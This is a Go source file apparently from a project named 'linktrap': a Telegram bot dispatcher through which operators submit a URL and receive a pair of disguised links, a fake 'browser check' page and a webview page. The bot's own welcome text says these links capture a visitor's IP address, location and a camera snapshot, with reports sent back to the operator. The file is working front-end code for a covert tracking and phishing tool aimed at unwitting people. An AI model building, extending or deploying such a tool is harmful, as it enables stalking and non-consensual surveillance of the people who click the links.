// Package bot implements the Telegram command dispatcher: the conversational
// surface through which operators mint tracking links.
package bot

import (
	"context"
	"fmt"
	"log"
	"net/url"
	"strings"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"github.com/nwatteau/linktrap/internal/services"
)

// callbackCreate is the inline-button callback tag that restarts the
// link-creation flow.
const callbackCreate = "crenew"

// promptText is the awaiting-URL prompt. Replies threaded against this exact
// text are treated as URL submissions; the transport's reply threading is the
// only per-chat state this service relies on.
const promptText = "🌐 Send the URL you want to track"

const welcomeText = `👋 *Welcome to linktrap.*

I mint tracking links that capture a visitor's address and, where the page
allows it, their location and a camera snapshot.

Tap the button below or send /create to get started. /help lists everything.`

const helpText = `*Commands*

/create – mint a tracking link pair for a destination URL
/help – show this text

After /create, reply to the prompt with a full URL starting with http.
You receive two links: a browser-check page and a webview page. Reports from
visited pages arrive here as messages.`

// Dispatcher routes inbound updates to handlers and replies conversationally.
type Dispatcher struct {
	sender Sender
	links  *services.LinkService
}

// NewDispatcher wires the dispatcher to a transport client and the composer.
func NewDispatcher(sender Sender, links *services.LinkService) *Dispatcher {
	return &Dispatcher{
		sender: sender,
		links:  links,
	}
}

// Run drains the update channel until it is closed. Each update is handled
// inline; no handler blocks beyond its own network I/O.
func (d *Dispatcher) Run(updates tgbotapi.UpdatesChannel) {
	log.Println("Bot dispatcher started, waiting for commands...")
	for update := range updates {
		d.HandleUpdate(update)
	}
}

// HandleUpdate dispatches a single inbound update. Unrecognized free text that
// is not threaded against the prompt is ignored without a response.
func (d *Dispatcher) HandleUpdate(update tgbotapi.Update) {
	if update.CallbackQuery != nil {
		d.handleCallback(update.CallbackQuery)
		return
	}

	msg := update.Message
	if msg == nil {
		return
	}

	if msg.IsCommand() {
		switch msg.Command() {
		case "start":
			d.handleStart(msg.Chat.ID)
		case "create":
			d.sendPrompt(msg.Chat.ID)
		case "help":
			d.send(tgbotapi.NewMessage(msg.Chat.ID, helpText))
		}
		return
	}

	if msg.ReplyToMessage != nil && msg.ReplyToMessage.Text == promptText {
		d.handleURLReply(msg)
	}
}

// handleCallback acknowledges the callback before replying, as the transport
// requires, then re-enters the awaiting-URL flow.
func (d *Dispatcher) handleCallback(q *tgbotapi.CallbackQuery) {
	if q.Data != callbackCreate {
		return
	}
	if _, err := d.sender.Request(tgbotapi.NewCallback(q.ID, "")); err != nil {
		log.Printf("ERROR: failed to acknowledge callback: %v", err)
	}
	if q.Message != nil {
		d.sendPrompt(q.Message.Chat.ID)
	}
}

func (d *Dispatcher) handleStart(chatID int64) {
	msg := tgbotapi.NewMessage(chatID, welcomeText)
	msg.ParseMode = tgbotapi.ModeMarkdown
	msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(
		tgbotapi.NewInlineKeyboardRow(
			tgbotapi.NewInlineKeyboardButtonData("🔗 Create Link", callbackCreate),
		),
	)
	d.send(msg)
}

// sendPrompt puts the chat into the awaiting-URL step. ForceReply makes
// clients thread the next message against this prompt.
func (d *Dispatcher) sendPrompt(chatID int64) {
	msg := tgbotapi.NewMessage(chatID, promptText)
	msg.ReplyMarkup = tgbotapi.ForceReply{ForceReply: true}
	d.send(msg)
}

// handleURLReply consumes a reply to the awaiting-URL prompt. An invalid URL
// re-issues the prompt; a valid one produces a single message with both links.
func (d *Dispatcher) handleURLReply(msg *tgbotapi.Message) {
	chatID := msg.Chat.ID
	text := strings.TrimSpace(msg.Text)

	if !isTrackableURL(text) {
		d.send(tgbotapi.NewMessage(chatID, "❌ That doesn't look like a valid URL. It must start with http."))
		d.sendPrompt(chatID)
		return
	}

	pair, err := d.links.ComposeLinks(context.Background(), chatID, text)
	if err != nil {
		log.Printf("ERROR: link composition failed for chat %d: %v", chatID, err)
		d.send(tgbotapi.NewMessage(chatID, "⚠️ Something went wrong while creating your links. Try again later."))
		return
	}

	reply := tgbotapi.NewMessage(chatID, fmt.Sprintf(
		"✅ *Your tracking links are ready.*\n\n☁️ Browser check page:\n%s\n\n🖥 Webview page:\n%s",
		pair.Cloudflare, pair.Webview,
	))
	reply.ParseMode = tgbotapi.ModeMarkdown
	reply.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(
		tgbotapi.NewInlineKeyboardRow(
			tgbotapi.NewInlineKeyboardButtonData("➕ Create New", callbackCreate),
		),
	)
	d.send(reply)
}

// isTrackableURL applies both validation conditions: the text must parse as a
// URL and must literally begin with "http". A scheme-relative or non-http(s)
// URL fails.
func isTrackableURL(text string) bool {
	if !strings.HasPrefix(text, "http") {
		return false
	}
	_, err := url.ParseRequestURI(text)
	return err == nil
}

// send delivers best-effort: transport failures are logged, never retried and
// never allowed to crash the dispatcher.
func (d *Dispatcher) send(c tgbotapi.Chattable) {
	if _, err := d.sender.Send(c); err != nil {
		log.Printf("ERROR: failed to send bot message: %v", err)
	}
}
